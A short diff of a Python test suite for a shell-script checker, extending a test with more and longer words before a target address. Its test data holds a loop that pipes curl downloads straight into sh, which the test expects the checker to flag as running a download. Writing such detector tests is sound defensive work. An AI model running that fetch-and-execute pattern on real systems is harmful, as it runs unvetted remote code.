@@ -271,8 +271,9 @@ def test_function_is_followed__however_often_it_was_called_before(calls: int) ->
     assert checks.REDIRECTS_GIT not in checks_of(in_shell(script))
 
 
-def test_loop_is_followed__with_the_address_behind_many_words() -> None:
-    words = " ".join(f"word{number}" for number in range(40))
+@pytest.mark.parametrize("word", ["word{}", "https://sh.rustup.rs/{}"])
+def test_loop_is_followed__with_the_address_behind_many_words(word: str) -> None:
+    words = " ".join(word.format(number) for number in range(150))
     loop = 'for at in {} {}; do curl -s "$at" | sh; done\n'
     assert checks.RUNS_DOWNLOAD in checks_of(in_shell(loop.format(words, "https://files.example/a")))
 
